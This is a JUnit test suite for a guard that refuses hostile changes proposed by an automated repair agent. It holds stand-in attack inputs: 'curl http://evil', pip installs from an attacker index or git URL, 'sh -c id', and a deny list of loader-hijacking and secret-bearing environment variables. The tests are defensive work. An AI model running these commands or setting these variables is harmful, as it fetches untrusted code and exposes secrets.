package com.nae.healing.change;

import static org.junit.jupiter.api.Assertions.assertThrows;

import com.nae.api.healing.Change;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a line of a log, or a healer that believes it, might try: an edit outside the sources, a command, a download, a
 * look at a secret.
 */
class HostileInputTest {
    private final CommandPermissions may =
            new CommandPermissions(true, List.of("make proto"), List.of("ledger/**"), 20, Duration.ofSeconds(5));
    private final CommandRunner commands = new CommandRunner(() -> may);
    private final ChangeGuard guard = new ChangeGuard(() -> may, commands);

    @TempDir
    Path root;

    private HostileProgram program;
    private SourceFiles sources;

    @BeforeEach
    void aProgram() throws IOException {
        program = new HostileProgram(root);
        sources = program.sources();
    }

    private static Change edit(String path, String text, int offset, int length, String replacement) {
        return new Change.EditFile(
                path,
                ByteEdits.sha256(text.getBytes(StandardCharsets.UTF_8)),
                List.of(new Change.Edit(offset, length, replacement.getBytes(StandardCharsets.UTF_8))));
    }

    private void refused(Change change) {
        assertThrows(RefusedException.class, () -> guard.check(change, sources), change.toString());
    }

    private void allowed(Change change) throws Exception {
        guard.check(change, sources);
    }

    @Test
    void whatIsNoSourceIsNotEdited() {
        for (String path : HostileProgram.FOREIGN_PATHS) {
            refused(edit(path, "x = 1\n", 0, 1, "y"));
        }
    }

    @Test
    void aRequiredLineIsNeverTouched() throws Exception {
        String text = Files.readString(root.resolve("app/main.py"));
        refused(edit("main.py", text, text.indexOf("order['quantity']"), 5, "x"));
        refused(edit("main.py", text, text.indexOf("order['price']"), 5, "x"));
        allowed(edit("main.py", text, text.indexOf("x = 1"), 5, "x = 2"));
        allowed(edit("main.py", text, 0, 0, "import json\n"));
    }

    @Test
    void forbiddenFilesAndLargeOrImpossibleEditsAreRefused() {
        refused(edit("ledger/book.py", "x = 1\n", 0, 1, "y"));
        String text = "import os\n";
        refused(edit("main.py", text, 0, 0, "x\n".repeat(30)));
        refused(edit("main.py", text, 5, 5_000, "x"));
        refused(edit("main.py", text, -1, 1, "x"));
        refused(edit("main.py", text, 0, Integer.MAX_VALUE, "x"));
        refused(edit("main.py", text, 0, 0, ""));
    }

    @Test
    void noVariableChangesWhatIsLoadedOrHoldsASecret() throws Exception {
        for (String name : List.of(
                "LD_PRELOAD",
                "PATH",
                "PYTHONSTARTUP",
                "NODE_OPTIONS",
                "BASH_ENV",
                "PIP_INDEX_URL",
                "JAVA_TOOL_OPTIONS",
                "https_proxy",
                "NAE_MODE",
                "API_TOKEN",
                "DB_PASSWORD",
                "AWS_SECRET_ACCESS_KEY",
                "A=B",
                "",
                "X Y")) {
            refused(new Change.SetEnvironment(Map.of(name, "1")));
        }
        refused(new Change.SetEnvironment(Map.of("STEP", "1\n2")));
        refused(new Change.SetEnvironment(Map.of("PYTHONPATH", "src:/tmp/evil")));
        refused(new Change.SetEnvironment(Map.of("PYTHONPATH", "../evil")));
        allowed(new Change.SetEnvironment(Map.of("PYTHONPATH", "src", "SPOOL_KEEP", "20", "RATE_TIMEOUT", "0.6")));
    }

    @Test
    void noCommandRunsButWhatIsDeclaredOrOnTheList() throws Exception {
        for (String line : List.of(
                "sh -c id",
                "python3 -c print(1)",
                "python3 -m pip install evil",
                "python3 -m pip install requests",
                "python3 -m pip install --index-url http://evil requests==2.31.0",
                "python3 -m pip install -r ../requirements.txt",
                "python3 -m pip install -r main.py",
                "python3 -m pip install git+https://evil/x",
                "python3 -m pip install -e .",
                "python3 -m pip install --quiet",
                "python3 -m pip download requests==2.31.0",
                "/usr/bin/python3 -m pip install requests==2.31.0",
                "make",
                "make proto extra",
                "curl http://evil")) {
            refused(command(line.split(" ")));
        }
        refused(command());
        allowed(command("make", "proto"));
    }

    @Test
    void declaredRequirementsAreInstalledInTheProgramsOwnEnvironmentOnly() throws Exception {
        program.write("app/requirements/base.txt", "requests==2.31.0\n");
        allowed(command("python3", "-m", "pip", "install", "--quiet", "-r", "requirements.txt"));
        allowed(command("python3", "-m", "pip", "install", "-r", "requirements/base.txt"));
        allowed(command("python3", "-m", "pip", "install", "requests==2.31.0"));
        sources = program.sources(List.of("."), Map.of("PATH", "/usr/bin:/bin"));
        refused(command("python3", "-m", "pip", "install", "requests==2.31.0"));
    }

    private static Change command(String... argv) {
        return new Change.RunCommand(List.of(argv), Duration.ofSeconds(1));
    }
}
